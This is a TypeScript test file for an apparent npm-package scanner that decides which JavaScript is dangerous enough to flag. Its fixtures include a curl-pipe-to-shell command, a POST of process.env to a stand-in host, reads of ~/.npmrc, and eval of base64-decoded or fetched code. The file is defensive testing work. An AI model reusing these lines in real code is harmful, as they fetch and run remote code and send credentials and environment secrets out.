import t from 'tap'
import { isGraveJavascript } from '../../src/analysis/javascript/grave.ts'
import { LIMITS } from '../../src/analysis/limits.ts'
import { inspect } from '../../src/inspection/inspect.ts'
import { sha256 } from '../../src/model/digest.ts'
import { packedReading } from './python-reading.ts'

t.test('which words make it grave that a file was not followed to its end', async (t) => {
  for (const [text, isGrave] of [
    [`fetch(u, { body: read('~/.npmrc') })`, true],
    [`send(JSON.stringify(process.env)); require('https')`, true],
    [`require('child_process').exec('curl -s https://c.invalid/i | sh')`, true],
    [`eval(Buffer.from(x, 'base64').toString())`, true],
    [`fetch(u).then((r) => r.text()).then((x) => eval(x))`, true],
    [`var _0x1a2b, _0x1a2c, _0x1a2d, _0x1a2e, _0x1a2f`, true],
    [`fetch('/api'); const key = process.env.NODE_ENV`, false],
    [`require('child_process').spawn('git', ['status'])`, false],
    [`const text = atob(x); const render = new Function('data', body)`, false],
    [`read('~/.npmrc')`, false],
    [`send(\`\${mnemonic}\`); import tls from 'tls'`, true],
    [`/* mnemonics of the assembler */ languages('http', require_http())`, false],
    [`import { request } from "node:https"; const all = { ...process.env }`, true],
    [`__require("http"); if (process.env.A) keep(...process.env.A_LIST)`, false],
    [`const known = { "WebSocket": false, XMLHttpRequest: false }; Object.keys(process.env)`, false],
    [`new window["WebSocket"](u); Object.keys(process.env)`, true],
    [`require('child_process').exec(\`powershell -c \${text}\`)`, true],
    [`require('child_process').spawn('curl', [u])`, true],
    [`require('child_process'); throw Error('not supported by Windows PowerShell. Curl up.')`, false],
  ] as const)
    t.equal(isGraveJavascript(Buffer.from(text)), isGrave, text)
})

async function told(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const all = {
    'package.json': JSON.stringify({ name: 'sample', main: 'index.js' }),
    'index.js': `require('./a')`,
    ...files,
  }
  const { findings } = await inspect(await packedReading('npm-tarball', all), {
    digest: sha256('x'),
    readAs: 'npm-tarball',
  })
  return findings.filter(({ check }) => check === 'not-examined').map(({ severity }) => severity)
}

/** Functions that call each other one after the other, of at least so many bytes together. */
function chained(bytes: number): string {
  const written: string[] = []
  for (let at = 0, size = 0; size <= bytes; at += 1) {
    const line = `function f${at}(x) { return f${at + 1}(x) }`
    written.push(line)
    size += line.length + 1
  }
  return written.join('\n')
}

t.test('a bundle whose words are grave is followed far', async (t) => {
  const bundle = chained(LIMITS.bundleBytes)
  const sends = `fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(process.env) })`
  t.same(await told({ 'a.js': `${bundle}\nf0(fetch('/api')); read('~/.npmrc')\n` }), [], 'nothing of it can do harm')
  t.same(await told({ 'a.js': `${bundle}\neval(f0(fetch('/api'))); read('~/.npmrc')\n` }), ['low'], 'data goes on')
  const files = { 'package.json': '{"main":"a.js"}', 'a.js': `${bundle}\nf0(fetch('/api'));\n${sends}\n` }
  const facts = await inspect(await packedReading('npm-tarball', files), { digest: sha256('x'), readAs: 'npm-tarball' })
  t.ok(facts.findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical'))
})

t.test('a module that cannot be read is told of, graver where its words are', async (t) => {
  const costly = `${chained(LIMITS.graveBundleBytes)}\nf0(fetch('/api'))\n`
  t.same(await told({ 'a.js': costly }), ['low'], 'no word of it is grave')
  t.same(await told({ 'a.js': `${costly}read('~/.npmrc')\n` }), ['medium'], 'it names what is secret, and sends')
  t.same(await told({ 'a.js': `import type { A } from './a'\nvar x = {` }), [], 'no word of it acts')
  t.same(await told({ 'a.js': `fetch(\n` }), ['medium'], 'it acts, and cannot be parsed')
  t.same(await told({ 'a.js': `fetch('/api')\nexports.view = () => <b>{title}</b>\n` }), [], 'markup is read')
  const markup = `exports.view = () => <b>{title}</b>\n`
  t.same(await told({ 'a.js': `fetch(\n${markup}` }), ['medium'], 'it stumbles over something else than markup')
})

t.test('a module that is too large is told of, graver where a word of it is', async (t) => {
  const line = `exports.a = fetch('/api')\n`
  const large = line.repeat(Math.ceil((LIMITS.otherFileBytes + 1) / line.length))
  t.same(await told({ 'a.js': large }), ['low'], 'no word of it is grave')
  t.same(await told({ 'a.js': `${large}read('~/.npmrc')\n` }), ['medium'], 'its last line names what is secret')
  const names = 'var _0x1a2b, _0x1a2c, _0x1a2d, _0x1a2e, _0x1a2f\n'
  t.same(await told({ 'a.js': `${large}${names}` }), ['medium'], 'its last line is obfuscated')
})

const started = (code: string): string =>
  `require('child_process').spawn(process.execPath, ['-e', ${JSON.stringify(code)}])\n`
const loaded = (code: string): string => `exports.load = (text) => import(${code})\n`

t.test('what is given to an interpreter and cannot run', async (t) => {
  t.same(await told({ 'a.js': started(`process.title = 'watch'; })`) }), [], 'no word of it acts')
  t.same(await told({ 'a.js': started(`fetch(u); })`) }), ['medium'], 'it acts, and cannot be parsed')
  t.same(await told({ 'a.js': loaded("'data:text/javascript;base64,' + btoa(text)") }), [], 'a part that is not known')
  const data = `data:text/javascript;base64,${Buffer.from('fetch(').toString('base64')}`
  t.same(await told({ 'a.js': loaded(`'${data}'`) }), ['medium'], 'all of it is known, and cannot be parsed')
})
